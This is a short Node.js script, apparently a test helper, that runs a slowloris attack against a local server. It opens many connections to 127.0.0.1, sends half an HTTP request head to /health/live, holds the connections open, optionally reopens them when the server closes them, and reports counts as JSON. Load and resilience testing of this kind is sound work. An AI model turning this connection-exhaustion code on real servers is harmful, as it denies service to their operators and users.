// A slowloris, run as its own process so that its event loop does not slow the measurements
// of whoever runs it: `node slowloris.mjs PORT COUNT [--reconnect]` opens COUNT connections
// that each send half a request head and stop. With --reconnect, each one the server closes
// is opened again (the attack holds COUNT connections for as long as it runs). Prints one
// JSON line a second ({opened, closed, open}) and one when all COUNT have connected; ends on
// SIGTERM.
import net from 'node:net';

const port = Number(process.argv[2]);
const count = Number(process.argv[3]);
const reconnect = process.argv.includes('--reconnect');
let opened = 0;
let closed = 0;
let open = 0;
let running = true;
const sockets = new Set();

const status = (extra = {}) => console.log(JSON.stringify({ opened, closed, open, ...extra }));

function connect() {
  if (!running) return;
  const socket = net.connect(port, '127.0.0.1');
  sockets.add(socket);
  let connected = false;
  socket.on('connect', () => {
    connected = true;
    ++opened;
    ++open;
    socket.write('GET /health/live HTTP/1.1\r\nHost: tempo\r\nX-Slow: ');
    if (opened === count) status({ all_connected: true });
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    sockets.delete(socket);
    if (connected) {
      ++closed;
      --open;
    }
    if (reconnect) setTimeout(connect, 10);
  });
}

for (let i = 0; i < count; ++i) connect();
const ticker = setInterval(() => status(), 1000);
process.on('SIGTERM', () => {
  running = false;
  clearInterval(ticker);
  for (const s of sockets) s.destroy();
  status({ stopped: true });
  process.exit(0);
});
